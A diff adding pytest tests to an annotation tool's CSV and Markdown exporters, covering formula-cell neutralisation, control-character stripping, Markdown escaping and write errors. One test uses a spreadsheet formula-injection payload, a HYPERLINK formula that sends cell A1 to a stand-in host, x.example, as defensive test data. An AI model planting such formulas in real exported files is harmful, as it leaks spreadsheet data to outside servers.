@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
+import re
 
 import pytest
 
+from annotator.core.atomic_write import WriteError
 from annotator.core.briefing import BriefingOptions, build_briefing
 from annotator.core.models import AnchorStatus, Annotation, DocStatus, Document, Tag
 from annotator.interchange.csv_export import COLUMNS, render_csv, write_csv
@@ -142,10 +145,134 @@ def test_markdown_escape(raw, shown):
 
 def test_markdown_file_is_utf8_even_with_lone_surrogates(tmp_path):
     briefing = _briefing()
-    import dataclasses
-
     briefing = dataclasses.replace(briefing, summary="bad \ud800 char 😀")
     path = write_markdown(briefing, tmp_path / "out.md")
     text = path.read_text(encoding="utf-8")
     assert "bad \ufffd char 😀" in text
     assert [p.name for p in tmp_path.iterdir()] == ["out.md"]
+
+
+def _single(
+    quote="Body text",
+    *,
+    tag="Topic",
+    description="",
+    note="",
+    author="Me",
+    doc_title="Doc",
+    title="Brief",
+    subtitle="",
+    project="Proj",
+):
+    """A briefing of one excerpt whose every user-typed text is given."""
+    annotation = Annotation(
+        1, 1, 0, len(quote), quote, "", "", note, author, "2026-01-01T10:00", "",
+        AnchorStatus.EXACT, True, (1,),
+    )  # fmt: skip
+    return build_briefing(
+        BriefingOptions(title=title, subtitle=subtitle, author="Lead"),
+        project_name=project,
+        project_note="",
+        documents=[dataclasses.replace(_doc(), title=doc_title)],
+        texts={1: quote},
+        tags=[Tag(1, tag, None, "", description, "", 0)],
+        annotations=[annotation],
+    )
+
+
+@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_start_a_formula_stay_text(mark):
+    payload = f'{mark}HYPERLINK("http://x.example/?"&A1,"Click")'
+    briefing = _single(payload, tag=payload, note=payload, author=payload, doc_title=payload)
+    (row,) = _rows(render_csv(briefing))
+    for column in ("document", "tag", "tag_path", "quote", "note", "author"):
+        assert row[column].startswith("'"), column
+        assert row[column].endswith(payload[1:]), column
+    # The numeric columns stay numbers a spreadsheet can sum and sort.
+    assert (row["annotation_id"], row["paragraph"], row["start"], row["end"]) == (
+        "1",
+        "1",
+        "0",
+        str(len(payload)),
+    )
+
+
+def test_csv_leaves_formula_characters_inside_a_cell_alone():
+    (row,) = _rows(render_csv(_single("a = b + c - d @ e", note="Total: =SUM(A1)")))
+    assert (row["quote"], row["note"]) == ("a = b + c - d @ e", "Total: =SUM(A1)")
+
+
+@pytest.mark.parametrize("write", [write_csv, write_markdown])
+def test_unwritable_target_raises_a_readable_write_error(tmp_path, write):
+    folder = tmp_path / "taken"
+    folder.mkdir()
+    with pytest.raises(WriteError, match="taken"):
+        write(_briefing(), folder)  # a folder given as the output file
+    with pytest.raises(WriteError, match="does not exist"):
+        write(_briefing(), tmp_path / "missing" / "out")
+    # Nothing was half-written or left behind.
+    assert [p.name for p in tmp_path.iterdir()] == ["taken"]
+    assert list(folder.iterdir()) == []
+
+
+_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+
+
+def test_control_characters_never_reach_markdown_or_csv():
+    dirty = "Ring\x07 the\x00 bell\x1b[0m\x0c"
+    briefing = _single(
+        "one\x00\ttab\nnext\x1bline",
+        tag=dirty,
+        description=dirty,
+        note=dirty,
+        author=dirty,
+        doc_title=dirty,
+        title=dirty,
+        subtitle=dirty,
+        project=dirty,
+    )
+    md = render_markdown(briefing)
+    text = render_csv(briefing)
+    assert not _CONTROL.search(md) and not _CONTROL.search(text)
+    (row,) = _rows(text)
+    assert row["quote"] == "one\ttab\nnextline"  # tabs and line breaks inside survive
+    assert row["note"] == row["tag"] == "Ring the bell[0m"
+    lines = md.splitlines()
+    assert "> one\ttab" in lines and "> nextline" in lines
+    assert lines[0] == "# Ring the bell\\[0m"
+
+
+@pytest.mark.parametrize(
+    ("raw", "shown"),
+    [
+        ("&amp;", "&amp;amp;"),
+        ("&copy; 2026", "&amp;copy; 2026"),
+        ("&#42; and &#x2A;", "&amp;#42; and &amp;#x2A;"),
+        ("Tom & Jerry; R&D", "Tom & Jerry; R&D"),  # no reference: left readable
+        ("~~struck~~", "\\~\\~struck\\~\\~"),
+        ("~~~", "\\~\\~\\~"),  # would open a fenced code block
+    ],
+)
+def test_markdown_escape_references_and_tildes(raw, shown):
+    assert escape(raw) == shown
+
+
+def test_markdown_heading_keeps_a_trailing_hash():
+    lines = render_markdown(_single(tag="Issue #", title="Brief ##")).splitlines()
+    assert lines[0] == "# Brief #\\#"
+    assert "## Issue \\#" in lines
+
+
+def test_markdown_single_line_fields_lose_edge_whitespace():
+    briefing = _single(subtitle="   - draft  ", project="    Indented project ", doc_title="  Doc ")
+    lines = render_markdown(briefing).splitlines()
+    assert lines[2] == "*\\- draft*"  # not a list item, and the emphasis closes
+    assert lines[4] == "Indented project · Lead"  # not an indented code block
+    assert any(ln.startswith("— *Doc*, ¶ 1") for ln in lines)
+
+
+def test_markdown_description_emphasis_never_spans_a_blank_line():
+    md = render_markdown(_single(tag="T", description="First point.\n\n  Second *point*.\n"))
+    lines = md.splitlines()
+    at = lines.index("## T")
+    assert lines[at + 1 : at + 6] == ["", "*First point.*", "", "*Second \\*point\\*.*", ""]
